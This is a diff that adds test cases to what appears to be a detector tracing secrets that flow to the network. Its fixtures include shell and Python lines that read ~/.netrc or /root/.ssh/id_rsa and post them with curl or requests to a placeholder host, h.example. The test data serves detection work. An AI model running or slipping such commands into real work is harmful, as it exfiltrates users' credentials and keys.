@@ -177,6 +177,47 @@ describe('what a program prints', () => {
   });
 });
 
+describe('a path that is handed over', () => {
+  const OPENS = `import sys, requests\n${POST}open(sys.argv[1]).read())`;
+
+  it('makes what is read there a secret', async () => {
+    const flows = await flowsIn({ 'run.sh': 'python a.py ~/.netrc', 'a.py': OPENS });
+    expect(flows).toContain('secret > network in a.py');
+  });
+
+  it('in a variable that a script sets', async () => {
+    const flows = await flowsIn({
+      'run.sh': 'FROM=~/.netrc bash a.sh',
+      'a.sh': 'cat "$FROM" | curl -d @- https://h.example',
+    });
+    expect(flows).toContain('secret > network in a.sh');
+  });
+
+  it('in a list that is gone through', async () => {
+    const flows = await flowsIn({
+      'a.py': `import os, requests\nfor name in ["notes", "~/.netrc"]:\n  ${POST}open(os.path.expanduser(name)).read())`,
+    });
+    expect(flows).toContain('secret > network in a.py');
+  });
+
+  it('is where a program writes for others', async () => {
+    const flows = await flowsIn({
+      'run.sh': 'python w.py out/x.txt\ncurl -d @out/x.txt https://h.example',
+      'w.py': 'import sys\nopen(sys.argv[1], "w").write(open("/root/.ssh/id_rsa").read())',
+    });
+    expect(flows).toContain('secret > network in run.sh');
+  });
+
+  it.each([
+    ['is sent itself', 'python a.py ~/.netrc', SENDS_WORD],
+    ['is of an ordinary file', 'python a.py notes.md', OPENS],
+    ['is another word than the one that is opened', 'python a.py notes.md ~/.netrc', OPENS],
+  ])('gives no secret when it %s', async (_what, command, code) => {
+    const flows = await flowsIn({ 'run.sh': command, 'a.py': code });
+    expect(flows.filter((flow) => flow.startsWith('secret > network'))).toEqual([]);
+  });
+});
+
 describe('many programs', () => {
   it('are followed to a bound that is said', async () => {
     const facts = await gatherFacts(
